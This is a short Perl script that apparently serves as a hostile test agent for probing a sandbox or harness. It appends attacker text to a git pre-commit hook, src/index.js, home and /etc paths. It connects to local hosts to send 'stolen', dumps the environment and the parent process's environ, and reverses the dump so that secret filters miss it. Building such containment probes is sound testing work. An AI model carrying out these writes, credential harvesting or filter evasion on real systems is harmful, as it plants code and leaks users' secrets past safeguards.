# An agent that obeys whoever wrote its text, whatever the text is: it writes, it reaches out, it looks for secrets.
# usage: obedient.pl PORT [TEXT…]; it also reads every PAWL_INPUT_* file. Says what it managed to do.
use strict;
use warnings;
use IO::Socket::INET;

my ($port, @texts) = @ARGV;
for my $name (grep { /^PAWL_INPUT_/ } sort keys %ENV) {
  open(my $file, "<", $ENV{$name}) or next;
  local $/;
  push @texts, scalar <$file>;
}
exit 1 if !@texts;

my @written;
for my $path ("pwned", ".git/hooks/pre-commit", "../pwned", "$ENV{HOME}/.pwned", "/etc/pwned", "src/index.js") {
  open(my $file, ">>", $path) or next;
  print $file $texts[0] and close($file) and push @written, $path;
}
my @reached;
for my $host ("127.0.0.1", "localhost", "0.0.0.0", "10.0.2.2") {
  my $socket = IO::Socket::INET->new(PeerAddr => $host, PeerPort => $port, Proto => "tcp", Timeout => 2) or next;
  print $socket "stolen\n";
  push @reached, $host;
}
my $environment = join "\n", map { "$_=$ENV{$_}" } sort keys %ENV;
if (open(my $parent, "<", "/proc/" . getppid() . "/environ")) { local $/; $environment .= scalar(<$parent>) // ""; }
# Told backwards, so that no filter takes it for a secret.
print "told ", scalar reverse($environment =~ s/[\n\0]/|/gr), "\n";
print "names ", join(",", sort keys %ENV), "\n";
print "wrote ", join(",", @written), "\n";
print "reached ", join(",", @reached), "\n";
